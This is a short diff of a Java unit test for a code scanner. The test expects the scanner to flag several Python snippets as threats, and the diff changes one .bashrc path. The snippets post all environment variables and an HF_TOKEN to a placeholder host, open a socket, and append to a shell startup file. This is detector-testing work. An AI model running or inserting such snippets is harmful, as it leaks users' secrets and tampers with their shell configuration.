@@ -101,7 +101,7 @@ class ActiveTextTest {
                 "import requests, os\ndef f():\n    requests.post('http://x', json=dict(os.environ))",
                 "import requests, os\ndef f():\n    requests.post('http://x', data=os.getenv('HF_TOKEN'))",
                 "import socket\ns = socket.socket()",
-                "def f():\n    open('/root/.bashrc', 'a').write('x')"
+                "def f():\n    open('/var/root/.bashrc', 'a').write('x')"
             })
     void harmAtImportIsAThreat(String source) {
         assertThat(python(source).report(CODE).outcome()).isEqualTo(THREAT);
